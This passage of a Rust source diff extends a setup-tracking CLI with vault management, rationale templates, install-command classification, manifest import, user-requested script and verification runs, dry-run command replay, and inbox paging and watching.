+            serde_json::to_string_pretty(&value).context("failed to serialize capabilities")?
+        );
+        return Ok(Outcome::Success);
+    }
+    if let serde_json::Value::Object(map) = value {
+        for (key, value) in map {
+            let text = match value {
+                serde_json::Value::Array(items) => items
+                    .iter()
+                    .filter_map(serde_json::Value::as_str)
+                    .collect::<Vec<_>>()
+                    .join(", "),
+                serde_json::Value::String(text) => text,
+                other => other.to_string(),
+            };
+            println!("{key}: {text}");
+        }
+    }
+    Ok(Outcome::Success)
+}
+
+/// Install a stderr tracing subscriber; logging stays off unless `-v` or `RUST_LOG` is given.
+fn init_logging(verbose: u8) {
+    let filter = match std::env::var("RUST_LOG") {
+        Ok(value) if !value.trim().is_empty() => tracing_subscriber::EnvFilter::new(value),
+        _ => tracing_subscriber::EnvFilter::new(match verbose {
+            0 => "off",
+            1 => "info",
+            2 => "debug",
+            _ => "trace",
+        }),
+    };
+    let _ = tracing_subscriber::fmt()
+        .with_env_filter(filter)
+        .with_writer(std::io::stderr)
+        .try_init();
+}
+
+fn init_vault(path: Option<String>, force: bool, quiet: bool) -> Result<Outcome> {
+    let path = match path {
+        Some(path) => expand_path(&path),
+        None => FsVault::default_path()?,
+    };
+
+    let config = load_config().context("failed to load config")?;
+    if let Some(current) = config.path.filter(|current| !current.trim().is_empty()) {
+        let current = expand_path(&current);
+        if current != path && FsVault::new(current.clone()).exists() && !force {
+            eprintln!(
+                "Warning: config currently points to an existing vault at {}.",
+                current.display()
+            );
+            if !std::io::stdin().is_terminal() {
+                return Err(anyhow!(
+                    "refusing to repoint the active vault; rerun with --force to switch to {}",
+                    path.display()
+                ));
+            }
+            if !confirm(&format!("Switch the active vault to {}?", path.display()))? {
+                eprintln!("Init cancelled; the active vault is unchanged.");
+                return Ok(Outcome::Success);
+            }
+        }
+    }
+
+    let vault = FsVault::new(path.clone());
+    vault.init().context("failed to initialize vault")?;
+    set_config_path(&path)?;
+    if !quiet {
+        println!("Vault initialized at {}", path.display());
+    }
+    Ok(Outcome::Success)
+}
+
+fn move_vault(vault: &FsVault, path: &str, force: bool, quiet: bool) -> Result<Outcome> {
+    let target = expand_path(path);
+    if target == vault.path() {
+        return Err(anyhow!("{} is already the active vault", target.display()));
+    }
+    let moved = vault
+        .move_to(&target, force)
+        .context("failed to move vault (--force replaces an occupied target)")?;
+    set_config_path(moved.path())?;
+    warn_config_overrides();
+    if !quiet {
+        println!("Vault moved to {}", moved.path().display());
+    }
+    Ok(Outcome::Success)
+}
+
+fn switch_vault(path: &str, quiet: bool) -> Result<Outcome> {
+    let target = expand_path(path);
+    let vault = FsVault::new(target.clone());
+    if !vault.exists() {
+        vault.init().context("failed to initialize vault")?;
+    }
+    set_config_path(&target)?;
+    warn_config_overrides();
+    if !quiet {
+        println!("Active vault is now {}", target.display());
+    }
+    Ok(Outcome::Success)
+}
+
+/// The config path is ignored while `SETUPVAULT_PATH` is set or a project vault is found from
+/// the current directory, so say so after repointing it.
+fn warn_config_overrides() {
+    if std::env::var("SETUPVAULT_PATH").is_ok_and(|value| !value.trim().is_empty()) {
+        eprintln!("Warning: SETUPVAULT_PATH is set and overrides the configured vault path.");
+    } else if let Ok(Some(project)) = project_vault_path() {
+        eprintln!(
+            "Warning: the project vault at {} overrides the configured vault path here.",
+            project.display()
+        );
+    }
+}
+
+fn confirm(prompt: &str) -> Result<bool> {
+    eprint!("{prompt} [y/N] ");
+    std::io::stderr().flush().context("failed to flush prompt")?;
+    let mut answer = String::new();
+    std::io::stdin()
+        .read_line(&mut answer)
+        .context("failed to read confirmation")?;
+    Ok(matches!(answer.trim().to_lowercase().as_str(), "y" | "yes"))
+}
+
+/// Rationale given inline or by naming a template from config.
+#[derive(Clone)]
+enum RationaleSource {
+    Text(String),
+    Template(String),
+}
+
+impl RationaleSource {
+    /// Clap guarantees exactly one of the two flags is present.
+    fn from_args(text: Option<String>, template: Option<String>) -> Self {
+        match template {
+            Some(name) => Self::Template(name),
+            None => Self::Text(text.unwrap_or_default()),
+        }
+    }
+
+    fn resolve(self, title: &str, config: &VaultConfig) -> Result<Rationale> {
+        match self {
+            Self::Text(text) => Rationale::new(text).context("invalid rationale"),
+            Self::Template(name) => config
+                .expand_rationale_template(&name, title)
+                .context("invalid rationale template"),
+        }
+    }
+
+    /// Quality warning for an inline rationale given to `approved` entries, unless
+    /// `rationale_quality_warnings` is off; templates substitute the title and are not judged.
+    fn quality_warning(
+        &self,
+        approved: usize,
+        config: &VaultConfig,
+    ) -> Option<sv_utils::RationaleWarning> {
+        let Self::Text(text) = self else {
+            return None;
+        };
+        if approved == 0 || !config.rationale_quality_warnings {
+            return None;
+        }
+        sv_utils::rationale_warning(text, approved)
     }
 }
 
+/// Create an entry from `capture` arguments; the `entry_templates` item for the source (or
+/// else the entry type) fills in the rationale, tags, and verification that were not given.
 #[allow(clippy::too_many_arguments)]
 fn capture_entry(
     vault: &FsVault,
+    config: &VaultConfig,
     title: Option<String>,
-    rationale: String,
+    rationale: Option<RationaleSource>,
     entry_type: EntryType,
     source: String,
     cmd: Option<String>,
     tags: Vec<String>,
     verification: Option<String>,
-) -> Result<()> {
+    uninstall_cmd: Option<String>,
+    script_file: Option<String>,
+) -> Result<Outcome> {
+    let script_body = script_file
+        .map(|path| {
+            std::fs::read_to_string(expand_path(&path))
+                .with_context(|| format!("failed to read script file {path}"))
+        })
+        .transpose()?;
     let title = title.unwrap_or_else(|| "Untitled".to_string());
-    let rationale = Rationale::new(rationale).context("invalid rationale")?;
-    let tags = parse_tags(tags)?;
+    let template = config
+        .entry_template(&source, &entry_type)
+        .cloned()
+        .unwrap_or_default();
+    let rationale = match rationale {
+        Some(rationale) => rationale.resolve(&title, config)?,
+        None => {
+            let skeleton = template.rationale_for(&title).ok_or_else(|| {
+                anyhow!(
+                    "a rationale is required: pass --rationale or --rationale-template, or add \
+                     one to the `{source}` or `{}` entry template",
+                    entry_type.as_str()
+                )
+            })?;
+            Rationale::new(skeleton).context("invalid rationale")?
+        }
+    };
+    let tags = parse_tags(
+        if tags.is_empty() { template.tags } else { tags },
+        &config.tag_aliases,
+    )?;
+    let verification = verification.or(template.verification);
     let cmd = cmd.unwrap_or_else(|| "manual entry".to_string());
     let entry = Entry::new(
         Uuid::new_v4(),
@@ -188,6 +1274,7 @@ fn capture_entry(
         SystemInfo {
             os: std::env::consts::OS.into(),
             arch: std::env::consts::ARCH.into(),
+            hostname: sv_utils::hostname(),
         },
         Utc::now(),
         EntryStatus::Active,
@@ -196,236 +1283,3401 @@ fn capture_entry(
         verification,
     )
     .context("invalid entry")?;
+    let mut entry = entry;
+    entry.uninstall_cmd = uninstall_cmd.filter(|value| !value.trim().is_empty());
+    entry.script_body = script_body.filter(|body| !body.trim().is_empty());
 
     vault.create(&entry).context("failed to write entry")?;
-    Ok(())
+    Ok(Outcome::Success)
 }
 
-fn inbox(vault: &FsVault, refresh: bool) -> Result<()> {
-    if refresh {
-        let detectors = default_detectors();
+/// Install command prefixes recognized by `quick`, with the source and type they imply.
+const QUICK_RULES: &[(&str, &str, EntryType)] = &[
+    ("brew install --cask ", "homebrew", EntryType::Application),
+    ("brew install ", "homebrew", EntryType::Package),
+    ("npm install -g ", "npm", EntryType::Package),
+    ("npm i -g ", "npm", EntryType::Package),
+    ("pnpm add -g ", "pnpm", EntryType::Package),
+    ("yarn global add ", "yarn", EntryType::Package),
+    ("cargo install ", "cargo", EntryType::Package),
+    ("pip install ", "pip", EntryType::Package),
+    ("pip3 install ", "pip", EntryType::Package),
+    ("sudo apt-get install ", "apt", EntryType::Package),
+    ("sudo apt install ", "apt", EntryType::Package),
+    ("sudo dnf install ", "dnf", EntryType::Package),
+    ("sudo yum install ", "yum", EntryType::Package),
+    ("sudo pacman -S ", "pacman", EntryType::Package),
+    ("flatpak install ", "flatpak", EntryType::Application),
+    ("sudo snap install ", "snap", EntryType::Application),
+    ("snap install ", "snap", EntryType::Application),
+    ("code --install-extension ", "vscode", EntryType::Application),
+    ("docker pull ", "docker", EntryType::Application),
+    ("winget install ", "winget", EntryType::Application),
+    ("choco install ", "chocolatey", EntryType::Package),
+    ("scoop install ", "scoop", EntryType::Package),
+];
 
-        let runtime = tokio::runtime::Builder::new_multi_thread()
-            .enable_all()
-            .build()
-            .context("failed to initialize runtime")?;
-        let changes = runtime
-            .block_on(run_detectors(detectors))
-            .context("detector run failed")?;
+/// Install flags whose following argument is a value (a file, version, or URL), not a package.
+const QUICK_VALUE_FLAGS: &[&str] = &[
+    "-r",
+    "--requirement",
+    "-c",
+    "--constraint",
+    "-i",
+    "--index-url",
+    "--extra-index-url",
+    "--version",
+    "--git",
+    "--branch",
+    "--tag",
+    "--rev",
+    "--path",
+    "--root",
+    "--registry",
+    "--prefix",
+    "--target",
+];
 
-        let mut inbox = vault.load_inbox().context("failed to load inbox")?;
-        let mut new_changes = Vec::new();
-        for (source, group) in group_by_source(&changes) {
-            let previous = vault.load_detector_snapshot(&source)?;
-            let diff = diff_changes(&previous, &group);
-            vault.save_detector_snapshot(&source, &group)?;
-            new_changes.extend(diff);
-        }
+/// The command `quick` records: a single argument is taken as an already-quoted command
+/// line, and several are shell-quoted one by one so `"foo bar"` stays a single argument.
+fn quick_command(args: &[String]) -> String {
+    match args {
+        [command] => command.clone(),
+        _ => args
+            .iter()
+            .map(|arg| sv_utils::shell_quote(arg))
+            .collect::<Vec<_>>()
+            .join(" "),
+    }
+}
 
-        if !new_changes.is_empty() {
-            append_unique(&mut inbox, new_changes);
-            vault.save_inbox(&inbox).context("failed to save inbox")?;
+/// Title, entry type, and source inferred from a raw command for `quick`.
+///
+/// Install commands from [`QUICK_RULES`] naming exactly one package are titled by it, a bare
+/// path is a dotfiles config, and anything else (including installs of several packages or
+/// from a file) is an `other` entry titled by its program.
+fn classify_command(cmd: &str) -> (String, EntryType, String) {
+    let cmd = cmd.trim();
+    for (prefix, source, entry_type) in QUICK_RULES {
+        if let Some(args) = cmd.strip_prefix(prefix) {
+            if let [title] = install_operands(args).as_slice() {
+                return ((*title).to_string(), entry_type.clone(), (*source).to_string());
+            }
         }
     }
-
-    let inbox = vault.load_inbox().context("failed to load inbox")?;
-    if inbox.is_empty() {
-        return Ok(());
+    if !cmd.contains(char::is_whitespace) && ["/", "~/", "./"].iter().any(|p| cmd.starts_with(p)) {
+        return (cmd.to_string(), EntryType::Config, "dotfiles".to_string());
     }
+    let program = cmd.split_whitespace().next().unwrap_or("Untitled");
+    (program.to_string(), EntryType::Other, "manual".to_string())
+}
 
-    for change in inbox {
-        println!(
-            "{}\t{}\t{}\t{}",
-            change.id, change.title, change.source, change.cmd
-        );
+/// Arguments of an install command that are not flags or the values of [`QUICK_VALUE_FLAGS`].
+fn install_operands(args: &str) -> Vec<&str> {
+    let mut operands = Vec::new();
+    let mut args = args.split_whitespace();
+    while let Some(arg) = args.next() {
+        if QUICK_VALUE_FLAGS.contains(&arg) {
+            args.next();
+        } else if !arg.starts_with('-') {
+            operands.push(arg);
+        }
     }
-    Ok(())
+    operands
 }
 
-fn approve(
+fn quick_capture(
     vault: &FsVault,
-    id: &str,
+    config: &VaultConfig,
+    cmd: &str,
+    rationale: Option<String>,
+    rationale_template: Option<String>,
+    tags: Vec<String>,
+) -> Result<Outcome> {
+    let (title, entry_type, source) = classify_command(cmd);
+    let rationale = if rationale.is_some() || rationale_template.is_some() {
+        RationaleSource::from_args(rationale, rationale_template)
+    } else {
+        prompt_rationale(&format!("Rationale for {title} ({source}, or @template)"))?
+    };
+    let uninstall_cmd = derive_uninstall_cmd(cmd.trim());
+    capture_entry(
+        vault,
+        config,
+        Some(title),
+        Some(rationale),
+        entry_type,
+        source,
+        Some(cmd.trim().to_string()),
+        tags,
+        None,
+        uninstall_cmd,
+        None,
+    )
+}
+
+/// Ask for a rationale (or `@template`) on stderr; errors when stdin is not a terminal.
+fn prompt_rationale(prompt: &str) -> Result<RationaleSource> {
+    if !std::io::stdin().is_terminal() {
+        return Err(anyhow!(
+            "pass --rationale or --rationale-template when stdin is not a terminal"
+        ));
+    }
+    eprint!("{prompt}: ");
+    std::io::stderr().flush().context("failed to flush prompt")?;
+    let mut answer = String::new();
+    std::io::stdin().read_line(&mut answer).context("failed to read rationale")?;
+    let answer = answer.trim();
+    Ok(match answer.strip_prefix('@') {
+        Some(name) => RationaleSource::Template(name.trim().to_string()),
+        None => RationaleSource::Text(answer.to_string()),
+    })
+}
+
+/// One entry in a `capture --manifest` file.
+#[derive(Debug, serde::Deserialize)]
+#[serde(deny_unknown_fields)]
+struct ManifestItem {
+    title: String,
     rationale: String,
+    cmd: Option<String>,
+    source: Option<String>,
+    #[serde(rename = "type")]
+    entry_type: Option<EntryType>,
+    #[serde(default)]
     tags: Vec<String>,
     verification: Option<String>,
-) -> Result<()> {
-    let id = Uuid::parse_str(id).context("invalid id")?;
-    let inbox = vault.load_inbox().context("failed to load inbox")?;
-    let change = inbox
-        .into_iter()
-        .find(|change| change.id == id)
-        .ok_or_else(|| anyhow!("change not found"))?;
+    uninstall_cmd: Option<String>,
+}
 
-    if let Some(path) = change.path.as_ref() {
-        if let Ok(contents) = std::fs::read_to_string(path) {
-            if sv_utils::contains_potential_secret(&contents) {
-                eprintln!("warning: potential secret detected in {path}");
+/// Capture every manifest item, reporting malformed items by index instead of aborting and
+/// ending with a `created N, failed M` summary; both go to `log`.
+fn capture_manifest(
+    vault: &FsVault,
+    config: &VaultConfig,
+    path: &str,
+    default_type: &EntryType,
+    default_source: &str,
+    quiet: bool,
+    log: &mut impl Write,
+) -> Result<Outcome> {
+    let contents = std::fs::read_to_string(expand_path(path))
+        .with_context(|| format!("failed to read manifest {path}"))?;
+    let items: Vec<serde_yaml::Value> =
+        serde_yaml::from_str(&contents).context("manifest must be a YAML list of entries")?;
+
+    let mut created = 0;
+    let mut failed = 0;
+    for (index, value) in items.iter().enumerate() {
+        let result = serde_yaml::from_value::<ManifestItem>(value.clone())
+            .context("malformed item")
+            .and_then(|item| {
+                let title = item.title.clone();
+                capture_entry(
+                    vault,
+                    config,
+                    Some(item.title),
+                    Some(RationaleSource::Text(item.rationale)),
+                    item.entry_type.unwrap_or_else(|| default_type.clone()),
+                    item.source.unwrap_or_else(|| default_source.to_string()),
+                    item.cmd,
+                    item.tags,
+                    item.verification,
+                    item.uninstall_cmd,
+                    None,
+                )
+                .map(|_| title)
+            });
+        match result {
+            Ok(title) => {
+                if !quiet {
+                    println!("created {title}");
+                }
+                created += 1;
+            }
+            Err(err) => {
+                writeln!(log, "skipped manifest item {}: {err:#}", index + 1)?;
+                failed += 1;
             }
         }
     }
-
-    let entry = Entry::new(
-        Uuid::new_v4(),
-        change.title,
-        change.entry_type,
-        change.source,
-        change.cmd,
-        change.system,
-        change.detected_at,
-        EntryStatus::Active,
-        parse_tags(tags)?,
-        Rationale::new(rationale)?,
-        verification,
-    )?;
-
-    vault.create(&entry).context("failed to write entry")?;
-    vault.remove_inbox_item(id).context("failed to update inbox")?;
-    Ok(())
+    if !quiet {
+        writeln!(log, "created {created}, failed {failed}")?;
+    }
+    if failed > 0 {
+        return Err(anyhow!("{failed} of {} manifest items failed", items.len()));
+    }
+    Ok(Outcome::Success)
 }
 
-fn snooze(vault: &FsVault, id: &str) -> Result<()> {
+fn open_entry(vault: &FsVault, id: &str) -> Result<Outcome> {
     let id = Uuid::parse_str(id).context("invalid id")?;
-    vault.snooze_inbox_item(id).context("failed to snooze")?;
-    Ok(())
+    let Some(path) = vault.entry_file(id).context("failed to find entry")? else {
+        return Ok(not_found("entry", id));
+    };
+    sv_utils::open_path(&path.to_string_lossy())
+        .with_context(|| format!("failed to open {}", path.display()))?;
+    note_access(vault, id);
+    Ok(Outcome::Success)
 }
 
-fn ignore(vault: &FsVault, id: &str) -> Result<()> {
+fn run_script(vault: &FsVault, id: &str) -> Result<Outcome> {
     let id = Uuid::parse_str(id).context("invalid id")?;
-    vault.remove_inbox_item(id).context("failed to ignore")?;
-    Ok(())
+    let Some(entry) = vault.get(id).context("failed to read entry")? else {
+        return Ok(not_found("entry", id));
+    };
+    let Some(body) = entry.script_body else {
+        return Err(anyhow!("entry {id} has no script body"));
+    };
+    note_access(vault, id);
+
+    // A fresh, exclusively created file: a predictable name in the shared temp directory
+    // could be pre-planted as a symlink or swapped before the interpreter reads it.
+    let mut script = tempfile::Builder::new()
+        .prefix("setupvault-")
+        .suffix(".script")
+        .tempfile()
+        .context("failed to create script file")?;
+    script.write_all(body.as_bytes()).context("failed to write script file")?;
+    script.flush().context("failed to write script file")?;
+    let (program, args) = script_interpreter(&body);
+    let status = std::process::Command::new(&program)
+        .args(&args)
+        .arg(script.path())
+        .status()
+        .with_context(|| format!("failed to run {program}"))?;
+
+    match status.code() {
+        Some(0) => Ok(Outcome::Success),
+        Some(code) => Ok(script_failed("script", code)),
+        None => Err(anyhow!("script terminated by a signal")),
+    }
 }
 
-fn unsnooze(vault: &FsVault, id: &str) -> Result<()> {
+fn verify_entry(vault: &FsVault, id: &str) -> Result<Outcome> {
     let id = Uuid::parse_str(id).context("invalid id")?;
-    vault.unsnooze_item(id).context("failed to unsnooze")?;
-    Ok(())
+    let Some(mut entry) = vault.get(id).context("failed to read entry")? else {
+        return Ok(not_found("entry", id));
+    };
+    let Some(command) = entry.verification.as_deref().and_then(verification_command) else {
+        return Err(anyhow!(
+            "entry {id} has no verification command; wrap one in backticks in its verification text"
+        ));
+    };
+    note_access(vault, id);
+
+    let status = sv_utils::shell_command(command)
+        .status()
+        .context("failed to run verification command")?;
+    match status.code() {
+        Some(0) => {
+            entry.last_verified = Some(Utc::now());
+            vault.update(&entry).context("failed to update entry")?;
+            Ok(Outcome::Success)
+        }
+        Some(code) => Ok(script_failed("verification command", code)),
+        None => Err(anyhow!("verification terminated by a signal")),
+    }
 }
 
-fn list_entries(vault: &FsVault) -> Result<()> {
-    let entries = vault.list().context("failed to list entries")?;
-    for entry in entries {
-        println!("{}\t{}\t{}", entry.id, entry.title, entry.source);
+/// Print each matching entry's command in detection order and, when `execute` is set, run it
+/// with the platform shell, stopping at the first failure unless `keep_going`. Entries
+/// captured on another OS than `os` are skipped; `None` replays every OS.
+fn replay(
+    vault: &FsVault,
+    filter: &EntryFilter,
+    os: Option<&str>,
+    execute: bool,
+    keep_going: bool,
+) -> Result<Outcome> {
+    let mut entries = filtered_entries(vault, filter)?;
+    if let Some(os) = os {
+        let before = entries.len();
+        entries.retain(|entry| entry.system.os == os);
+        let other_os = before - entries.len();
+        if other_os > 0 {
+            eprintln!(
+                "Skipping {other_os} entries captured on another OS; pass --all-os to include them."
+            );
+        }
     }
-    Ok(())
+    if entries.is_empty() {
+        eprintln!("No entries match.");
+        return Ok(Outcome::Success);
+    }
+    entries.sort_by_key(|entry| entry.detected_at);
+    if !execute {
+        for entry in &entries {
+            println!("==> {}: {}", entry.title, entry.cmd);
+        }
+        eprintln!("Dry run: {} commands not run; pass --yes to run them.", entries.len());
+        return Ok(Outcome::Success);
+    }
+
+    let mut succeeded = 0;
+    let mut failed = Vec::new();
+    for entry in &entries {
+        println!("==> {}: {}", entry.title, entry.cmd);
+        std::io::stdout().flush().context("failed to flush output")?;
+        let status = sv_utils::shell_command(&entry.cmd)
+            .status()
+            .with_context(|| format!("failed to run `{}`", entry.cmd))?;
+        if status.success() {
+            succeeded += 1;
+            continue;
+        }
+        println!("==> {} failed ({status})", entry.title);
+        failed.push(entry.title.as_str());
+        if !keep_going {
+            break;
+        }
+    }
+    let skipped = entries.len() - succeeded - failed.len();
+    println!(
+        "Replayed {} of {} commands: {succeeded} succeeded, {} failed, {skipped} not run",
+        succeeded + failed.len(),
+        entries.len(),
+        failed.len()
+    );
+    if !failed.is_empty() {
+        return Err(anyhow!(
+            "{} of {} commands failed: {}",
+            failed.len(),
+            entries.len(),
+            failed.join(", ")
+        ));
+    }
+    Ok(Outcome::Success)
 }
 
-fn show_entry(vault: &FsVault, id: &str) -> Result<()> {
+fn check_entry(
+    vault: &FsVault,
+    config: &VaultConfig,
+    id: &str,
+    no_detectors: bool,
+) -> Result<Outcome> {
     let id = Uuid::parse_str(id).context("invalid id")?;
-    let entry = vault.get(id).context("failed to get entry")?;
-    if let Some(entry) = entry {
-        let markdown = render_entry_markdown(&entry).context("failed to render entry")?;
-        println!("{markdown}");
+    let Some(entry) = vault.get(id).context("failed to read entry")? else {
+        return Ok(not_found("entry", id));
+    };
+    if no_detectors {
+        return Err(anyhow!("cannot check `{}` with --no-detectors", entry.title));
+    }
+    let detectors = configured_detectors(&config.detector_config());
+    match check_presence(&detectors, &entry.source, &entry.title)
+        .context("failed to run detector")?
+    {
+        PresenceCheck::StillInstalled(detector) => {
+            println!("{}: still installed ({detector})", entry.title);
+            Ok(Outcome::Success)
+        }
+        PresenceCheck::NoLongerDetected(detector) => {
+            println!("{}: no longer detected ({detector})", entry.title);
+            Ok(Outcome::NotDetected)
+        }
+        PresenceCheck::Unavailable => Err(anyhow!(
+            "the detector for source `{}` is not available on this machine",
+            entry.source
+        )),
+        PresenceCheck::NoDetector => Err(anyhow!(
+            "no detector reports source `{}`; only detected entries can be checked",
+            entry.source
+        )),
     }
-    Ok(())
 }
 
-fn search_entries(vault: &FsVault, query: &str) -> Result<()> {
-    let entries = vault.list().context("failed to list entries")?;
-    let query = query.to_lowercase();
-    for entry in entries.into_iter().filter(|entry| {
-        entry.title.to_lowercase().contains(&query)
-            || entry
-                .tags
-                .iter()
-                .any(|tag| tag.as_str().to_lowercase().contains(&query))
-            || entry.rationale.as_str().to_lowercase().contains(&query)
-    }) {
-        println!("{}\t{}\t{}", entry.id, entry.title, entry.source);
+/// Command to run from verification guidance: its first `` `code` `` span.
+///
+/// Prose without a code span is guidance for a person, never a command.
+fn verification_command(text: &str) -> Option<&str> {
+    if text.matches('`').count() < 2 {
+        return None;
     }
-    Ok(())
+    text.split('`')
+        .nth(1)
+        .map(str::trim)
+        .filter(|command| !command.is_empty())
 }
 
-fn export_entries(vault: &FsVault, path: &str) -> Result<()> {
-    let target = std::path::PathBuf::from(path);
-    if !target.exists() {
-        std::fs::create_dir_all(&target).context("failed to create export directory")?;
+/// Parse a window such as `90m`, `12h`, `30d`, or `2w`.
+fn parse_stale_window(value: &str) -> Result<chrono::Duration, String> {
+    let value = value.trim();
+    let split = value.len() - value.trim_start_matches(|ch: char| ch.is_ascii_digit()).len();
+    let (amount, unit) = value.split_at(split);
+    let amount: i64 = amount
+        .parse()
+        .map_err(|_| format!("expected a number followed by m, h, d, or w, got `{value}`"))?;
+    let window = match unit {
+        "m" => chrono::Duration::try_minutes(amount),
+        "h" => chrono::Duration::try_hours(amount),
+        "d" => chrono::Duration::try_days(amount),
+        "w" => chrono::Duration::try_weeks(amount),
+        _ => return Err(format!("unknown unit in `{value}`; use m, h, d, or w")),
+    };
+    window.ok_or_else(|| format!("`{value}` is too long a window"))
+}
+
+/// Interpreter and leading arguments from a script's shebang, defaulting to `sh`.
+fn script_interpreter(body: &str) -> (String, Vec<String>) {
+    let shebang = body
+        .lines()
+        .next()
+        .and_then(|line| line.strip_prefix("#!"))
+        .map(str::split_whitespace);
+    match shebang.map(|mut parts| (parts.next(), parts)) {
+        Some((Some(program), args)) => (program.to_string(), args.map(str::to_string).collect()),
+        _ => ("sh".to_string(), Vec::new()),
     }
+}
 
-    let entries = vault.list().context("failed to list entries")?;
-    for entry in entries {
-        let file_name = sanitize_export_filename(&entry.title, entry.id);
-        let dest = target.join(file_name);
-        let content = render_entry_markdown(&entry).context("failed to render entry")?;
-        std::fs::write(dest, content).context("failed to export entry")?;
+/// Cursor-style window over the inbox's stored (insertion) order.
+#[derive(Default)]
+struct InboxPage {
+    after_id: Option<Uuid>,
+    limit: Option<usize>,
+    strict: bool,
+    /// Presentation order (`inbox_order`), applied to the page after the window is taken.
+    order: InboxOrder,
+}
+
+impl InboxPage {
+    /// Items after the cursor, capped at the limit, then sorted by `order`; `None` when the
+    /// cursor id is not queued.
+    fn apply(&self, inbox: Vec<DetectedChange>) -> Option<Vec<DetectedChange>> {
+        let start = match self.after_id {
+            Some(id) => inbox.iter().position(|change| change.id == id)? + 1,
+            None => 0,
+        };
+        let mut page: Vec<_> = inbox
+            .into_iter()
+            .skip(start)
+            .take(self.limit.unwrap_or(usize::MAX))
+            .collect();
+        self.order.sort(&mut page);
+        Some(page)
+    }
+}
+
+#[allow(clippy::too_many_arguments)]
+fn inbox(
+    vault: &FsVault,
+    config: &VaultConfig,
+    refresh: bool,
+    fail_if_empty: bool,
+    scan: &ScanOptions,
+    page: &InboxPage,
+    output: InboxOutput,
+) -> Result<Outcome> {
+    if refresh {
+        refresh_inbox(vault, config, scan)?;
+    }
+
+    let inbox = inbox_from_sources(vault, scan.sources)?;
+    let inbox = match page.apply(inbox) {
+        Some(inbox) => inbox,
+        None if page.strict => {
+            return Ok(not_found("change", page.after_id.unwrap_or_default()));
+        }
+        None => Vec::new(),
+    };
+    match output {
+        InboxOutput::List(ListOutput::Count { json }) => {
+            println!("{}", count_line(inbox.len(), json));
+        }
+        InboxOutput::List(ListOutput::Rows) => inbox.iter().for_each(print_change),
+        InboxOutput::List(ListOutput::Porcelain) => {
+            for change in &inbox {
+                println!(
+                    "{}",
+                    porcelain_line(&[
+                        ("id", &change.id.to_string()),
+                        ("title", &change.title),
+                        ("source", &change.source),
+                        ("type", change.entry_type.as_str()),
+                        ("cmd", &change.cmd),
+                    ])
+                );
+            }
+        }
+        InboxOutput::Grouped { by, json } => {
+            let groups = match by {
+                GroupBy::Source => group_by_source(&inbox),
+                GroupBy::Type => group_by_type(&inbox),
+            };
+            print_groups(&groups, json)?;
+        }
+    }
+    if inbox.is_empty() {
+        return Ok(empty_outcome(fail_if_empty));
+    }
+    Ok(Outcome::Success)
+}
+
+/// Which detectors a refresh runs and whether it may reuse cached output.
+struct ScanOptions<'a> {
+    /// Only run detectors for these sources; empty runs every configured detector.
+    sources: &'a [String],
+    no_cache: bool,
+    /// `--no-detectors`: scan nothing and leave the inbox and snapshots untouched.
+    no_detectors: bool,
+}
+
+/// Run detectors, update snapshots, and return the changes newly added to the inbox.
+fn refresh_inbox(
+    vault: &FsVault,
+    config: &VaultConfig,
+    scan: &ScanOptions,
+) -> Result<Vec<DetectedChange>> {
+    if scan.no_detectors {
+        return Ok(Vec::new());
+    }
+    let ignore = IgnorePatterns::compile(&config.ignore_patterns)
+        .context("invalid ignore_patterns in config")?;
+    let detector_config = config.detector_config();
+    let detectors = filter_detectors(configured_detectors(&detector_config), scan.sources)?;
+    let mut changes = scan_detectors_cached(
+        detectors,
+        &detector_config,
+        &vault.detector_cache_dir(),
+        config.detector_cache_ttl_secs,
+        !scan.no_cache,
+    )
+    .context("detector run failed")?;
+    ignore.apply(&mut changes);
+    dedupe_by_source_priority(&mut changes, &config.source_priority);
+
+    let mut inbox = vault.load_inbox().context("failed to load inbox")?;
+    let mut new_changes = Vec::new();
+    for (source, group) in group_by_source(&changes) {
+        let previous = vault.load_detector_snapshot(&source)?;
+        let diff = diff_changes(&previous, &group);
+        vault.save_detector_snapshot(&source, &group)?;
+        new_changes.extend(diff);
+    }
+
+    let added = append_unique(&mut inbox, new_changes);
+    if !added.is_empty() {
+        if let Some(notice) = vault.save_inbox(&inbox).context("failed to save inbox")? {
+            eprintln!("warning: {notice}");
+        }
+    }
+    Ok(added)
+}
+
+/// Refresh every `interval`, printing only newly detected changes, until Ctrl-C.
+fn watch_inbox(
+    vault: &FsVault,
+    config: &VaultConfig,
+    scan: &ScanOptions,
+    interval: Duration,
+) -> Result<Outcome> {
+    // Ctrl-C only sets a flag, so an in-flight refresh finishes its writes before exiting.
+    let stop = Arc::new(AtomicBool::new(false));
+    let runtime = tokio::runtime::Builder::new_multi_thread()
+        .worker_threads(1)
+        .enable_all()
+        .build()
+        .context("failed to initialize runtime")?;
+    let flag = Arc::clone(&stop);
+    runtime.spawn(async move {
+        if tokio::signal::ctrl_c().await.is_ok() {
+            flag.store(true, Ordering::SeqCst);
+        }
+    });
+
+    while !stop.load(Ordering::SeqCst) {
+        for change in refresh_inbox(vault, config, scan)? {
+            print_change(&change);
+        }
+        std::io::stdout().flush().context("failed to flush output")?;
+
+        let deadline = Instant::now() + interval;
+        while !stop.load(Ordering::SeqCst) && Instant::now() < deadline {
+            std::thread::sleep(WATCH_POLL.min(deadline - Instant::now()));
+        }
+    }
+    Ok(Outcome::Success)
+}
+
+fn print_change(change: &DetectedChange) {
+    println!(
+        "{}\t{}\t{}\t{}",
+        change.id, change.title, change.source, change.cmd
+    );
+}
+
+/// Print each group's name and item count, then its items indented; with `json`, one
+/// object mapping group names to their changes.
+fn print_groups(
+    groups: &std::collections::BTreeMap<String, Vec<DetectedChange>>,
+    json: bool,
+) -> Result<()> {
+    if json {
+        println!("{}", serde_json::to_string(groups).context("failed to serialize inbox")?);
+        return Ok(());
+    }
+    for (name, changes) in groups {
+        println!("{name} ({})", changes.len());
+        for change in changes {
+            print!("  ");
+            print_change(change);
+        }
     }
     Ok(())
 }
 
-fn parse_tags(tags: Vec<String>) -> Result<Vec<Tag>> {
-    tags.into_iter()
-        .map(|tag| Tag::new(tag).map_err(|err| anyhow!(err.to_string())))
-        .collect()
+/// Inbox items limited to `sources`; an empty list keeps every item.
+fn inbox_from_sources(vault: &FsVault, sources: &[String]) -> Result<Vec<DetectedChange>> {
+    let mut inbox = vault.load_inbox().context("failed to load inbox")?;
+    if !sources.is_empty() {
+        inbox.retain(|change| sources.contains(&change.source));
+    }
+    Ok(inbox)
 }
 
-fn sanitize_export_filename(title: &str, id: Uuid) -> String {
-    let slug = slugify(title);
-    let slug = if slug.is_empty() { "entry" } else { slug.as_str() };
-    format!("{slug}-{id}.md")
+fn snoozed(vault: &FsVault, action: &SnoozedAction, quiet: bool) -> Result<Outcome> {
